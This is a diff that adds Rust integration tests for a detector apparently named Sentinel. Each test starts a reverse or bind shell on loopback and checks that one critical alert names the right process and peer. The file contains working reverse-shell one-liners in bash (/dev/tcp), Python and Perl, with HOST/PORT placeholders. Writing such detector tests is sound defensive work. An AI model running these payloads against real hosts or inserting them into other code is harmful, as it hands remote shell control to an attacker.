@@ -1,0 +1,228 @@
+//! Real reverse and bind shells on loopback: each is one critical alert, with its facts right.
+
+use std::{
+    io::{BufRead, BufReader},
+    net::{SocketAddr, TcpStream},
+    process::{Child, Command, Stdio},
+};
+
+use sentinel_tests::{
+    bed::Bed,
+    peer::{Peer, Shell},
+    programs::compiled,
+    sentinel::{Sentinel, start_ticks},
+};
+use serde_json::Value;
+
+/// Which process the alert has to name.
+#[derive(Clone, Copy)]
+enum Culprit {
+    /// The shell that answers.
+    Shell,
+    /// The process that the test started, which relays to a shell on a terminal.
+    Started,
+}
+
+/// Plays the attacker against `command` and checks the one alert.
+fn attack(loopback: &str, culprit: Culprit, command: impl FnOnce(&Bed, SocketAddr) -> Command) {
+    let Some(bed) = Bed::new() else { return };
+    let sentinel = Sentinel::start(&bed, &[]);
+    let peer = Peer::listen(loopback);
+    let mut child = spawn(&mut command(&bed, peer.address()));
+    let shell = peer.shell();
+    let expected = talk(shell, &child, culprit);
+    child.wait().unwrap();
+    check(sentinel.stop().alerts, expected, peer.address());
+}
+
+fn spawn(command: &mut Command) -> Child {
+    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap()
+}
+
+/// Uses the shell; returns pid and start (clock ticks) of the process to be named.
+fn talk(mut shell: Shell, child: &Child, culprit: Culprit) -> (u32, u64) {
+    let shell_pid = shell.pid();
+    let pid = match culprit {
+        Culprit::Shell => shell_pid,
+        Culprit::Started => child.id(),
+    };
+    let expected = (pid, start_ticks(pid));
+    shell.exit();
+    expected
+}
+
+fn check(alerts: Vec<Value>, (pid, start): (u32, u64), remote: SocketAddr) {
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+    let alert = &alerts[0];
+    assert_eq!(alert["pattern_name"], "reverse_shell");
+    assert_eq!(alert["severity"], "critical");
+    assert_eq!(alert["mitre"], "T1059");
+    assert_eq!(alert["action"], "logged");
+    assert_eq!(alert["pid"], pid, "{alert:#}");
+    // USER_HZ is 100 on every architecture that Sentinel knows.
+    assert_eq!(alert["start_time"].as_u64().unwrap() / 10_000_000, start);
+    assert_eq!(alert["remote_ip"], remote.ip().to_string());
+    assert_eq!(alert["remote_port"], remote.port());
+    let steps = alert["steps"].as_array().unwrap();
+    let times: Vec<u64> =
+        steps.iter().map(|step| step["timestamp_boot"].as_u64().unwrap()).collect();
+    assert!(
+        times.is_sorted() && *times.last().unwrap() <= alert["timestamp_boot"].as_u64().unwrap()
+    );
+    let named = |event: &str| steps.iter().any(|step| step["event"] == event);
+    assert!(named("connect") || named("accept"), "{alert:#}");
+    let peer = remote.to_string();
+    assert!(
+        steps.iter().any(|step| step["detail"].as_str().unwrap().contains(&peer)),
+        "a step tells the peer: {alert:#}"
+    );
+    assert!(named("exec") || named("hold"), "{alert:#}");
+}
+
+fn program(how: &'static str, family: &'static str) -> impl FnOnce(&Bed, SocketAddr) -> Command {
+    move |bed, remote| {
+        let mut command = bed.command(compiled("shell_on_socket"));
+        command.args([how, family, "connect", &remote.port().to_string()]);
+        command
+    }
+}
+
+fn script(
+    interpreter: &'static str,
+    option: &'static str,
+    code: &'static str,
+) -> impl FnOnce(&Bed, SocketAddr) -> Command {
+    move |bed, remote| {
+        let code = code
+            .replace("HOST", &remote.ip().to_string())
+            .replace("PORT", &remote.port().to_string());
+        let mut command = bed.command(interpreter);
+        command.arg(option).arg(code);
+        command
+    }
+}
+
+#[test]
+fn c_with_dup2() {
+    attack("127.0.0.1", Culprit::Shell, program("dup2", "4"));
+}
+
+#[test]
+fn c_with_dup3() {
+    attack("127.0.0.1", Culprit::Shell, program("dup3", "4"));
+}
+
+#[test]
+fn c_with_fcntl_dupfd() {
+    attack("127.0.0.1", Culprit::Shell, program("fdupfd", "4"));
+}
+
+#[test]
+fn c_with_close_and_dup() {
+    attack("127.0.0.1", Culprit::Shell, program("close_dup", "4"));
+}
+
+#[test]
+fn c_in_reversed_order() {
+    attack("127.0.0.1", Culprit::Shell, program("reversed", "4"));
+}
+
+#[test]
+fn c_in_a_child_before_its_exec() {
+    attack("127.0.0.1", Culprit::Shell, program("child", "4"));
+}
+
+#[test]
+fn c_with_the_socket_on_zero_from_the_start() {
+    attack("127.0.0.1", Culprit::Shell, program("direct", "4"));
+}
+
+#[test]
+fn c_that_connects_after_redirecting() {
+    attack("127.0.0.1", Culprit::Shell, program("late", "4"));
+}
+
+#[test]
+fn c_over_ipv6() {
+    attack("::1", Culprit::Shell, program("dup2", "6"));
+}
+
+fn bind_shell(how: &str, family: &str, loopback: &str) {
+    let Some(bed) = Bed::new() else { return };
+    let sentinel = Sentinel::start(&bed, &[]);
+    let mut child = bed
+        .command(compiled("shell_on_socket"))
+        .args([how, family, "accept"])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut port = String::new();
+    BufReader::new(child.stdout.take().unwrap()).read_line(&mut port).unwrap();
+    let there = SocketAddr::new(loopback.parse().unwrap(), port.trim().parse().unwrap());
+    let stream = TcpStream::connect(there).unwrap();
+    let remote = stream.local_addr().unwrap();
+    let expected = talk(Shell::on(stream), &child, Culprit::Shell);
+    child.wait().unwrap();
+    check(sentinel.stop().alerts, expected, remote);
+}
+
+#[test]
+fn c_on_the_accepting_side() {
+    bind_shell("dup2", "4", "127.0.0.1");
+}
+
+#[test]
+fn c_on_the_accepting_side_over_ipv6() {
+    bind_shell("close_dup", "6", "::1");
+}
+
+#[test]
+fn bash_with_dev_tcp() {
+    let code = "bash -i >& /dev/tcp/HOST/PORT 0>&1";
+    attack("127.0.0.1", Culprit::Shell, script("bash", "-c", code));
+}
+
+#[test]
+fn bash_that_redirects_itself() {
+    let code = "exec 0<>/dev/tcp/HOST/PORT 1>&0; while read -r line; do eval \"$line\"; \
+                sh -c true; done";
+    attack("127.0.0.1", Culprit::Shell, script("bash", "-c", code));
+}
+
+#[test]
+fn bash_in_a_dialogue() {
+    let code = "exec 5<>/dev/tcp/HOST/PORT; while read -r line <&5; do eval \"$line; \
+                /bin/true\" >&5 2>&1; /bin/echo done >&5; done";
+    let Some(bed) = Bed::new() else { return };
+    let sentinel = Sentinel::start(&bed, &[]);
+    let peer = Peer::listen("127.0.0.1");
+    let mut child = spawn(&mut script("bash", "-c", code)(&bed, peer.address()));
+    let mut shell = peer.shell();
+    assert_eq!(shell.pid(), shell.pid());
+    let expected = talk(shell, &child, Culprit::Shell);
+    child.wait().unwrap();
+    check(sentinel.stop().alerts, expected, peer.address());
+}
+
+#[test]
+fn python_with_subprocess() {
+    let code = "import os,socket,subprocess\ns=socket.create_connection(('HOST',PORT))\nfor i in \
+                range(3): os.dup2(s.fileno(),i)\nsubprocess.call(['/bin/sh','-i'])";
+    attack("127.0.0.1", Culprit::Shell, script("python3", "-c", code));
+}
+
+#[test]
+fn python_with_a_pty() {
+    let code = "import os,pty,socket\ns=socket.create_connection(('HOST',PORT))\nfor i in \
+                range(3): os.dup2(s.fileno(),i)\npty.spawn('/bin/sh')";
+    attack("127.0.0.1", Culprit::Started, script("python3", "-c", code));
+}
+
+#[test]
+fn perl_that_execs() {
+    let code = "use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(PORT,\
+                inet_aton('HOST')))or die;open(STDIN,'>&S');open(STDOUT,'>&S');\
+                open(STDERR,'>&S');exec('/bin/sh -i');";
+    attack("127.0.0.1", Culprit::Shell, script("perl", "-e", code));
+}
